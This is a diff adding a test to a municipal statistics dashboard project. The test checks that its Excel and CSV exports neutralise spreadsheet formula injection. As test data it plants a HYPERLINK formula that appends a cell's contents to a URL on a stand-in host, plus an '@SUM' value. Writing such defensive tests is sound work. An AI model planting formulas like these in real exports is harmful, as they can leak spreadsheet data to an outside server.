@@ -241,3 +241,27 @@ def test_choosing_a_release_shows_that_releases_figures(stavanger: Path, site: P
         "const s = document.getElementById('release'); return s.options[s.selectedIndex].text"
     )
     assert choice == f"{march} (foreløpige tall)"
+
+
+def test_no_export_holds_a_live_formula(stavanger: Path, tmp_path: Path) -> None:
+    import duckdb
+
+    from dashboards.site import build_site
+
+    copy = tmp_path / "w.duckdb"
+    shutil.copy(stavanger / "data/warehouse/malestokk.duckdb", copy)
+    con = duckdb.connect(str(copy))
+    formula = '=HYPERLINK("http://example.test/?"&A1,"klikk")'
+    con.execute("UPDATE mart_comparisons SET label = ? WHERE service_area = 'barnehage'",
+                [formula])  # fmt: skip
+    con.execute("UPDATE mart_comparisons SET peer_label = '@SUM(1+1)' WHERE peer_set = 'asss'")
+    build_site(con, tmp_path / "site")
+    con.close()
+    book = load_workbook(tmp_path / "site/barnehage.xlsx")
+    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
+    assert formula in [c.value for c in cells] and "@SUM(1+1)" in [c.value for c in cells]
+    assert not [c for c in cells if c.data_type == "f"]  # text, not formulas
+    text = (tmp_path / "site/barnehage.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
+    assert not any(field.startswith(("=", "@", "+")) for line in text.splitlines()
+                   for field in line.split(";"))  # fmt: skip
